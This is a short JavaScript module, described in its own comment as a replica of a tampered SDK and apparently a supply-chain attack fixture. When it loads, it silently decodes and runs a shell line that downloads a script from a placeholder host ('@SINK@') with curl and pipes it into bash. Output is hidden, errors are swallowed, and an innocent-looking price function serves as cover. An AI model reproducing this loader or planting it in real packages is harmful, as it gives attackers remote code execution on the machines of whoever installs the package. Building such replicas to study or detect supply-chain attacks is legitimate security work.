// Replica of an altered SDK: a decoded line of shell, which fetches the rest.
const { execSync } = require('child_process')
const line = Buffer.from('nohup bash -c "$(curl -fsSL -m 3 http://@SINK@:8000/i)" > /dev/null 2>&1').toString('base64')
try { execSync(`echo ${line} | base64 --decode | bash`, { stdio: 'ignore', timeout: 20000 }) } catch (error) {}
exports.price = amount => amount * 14
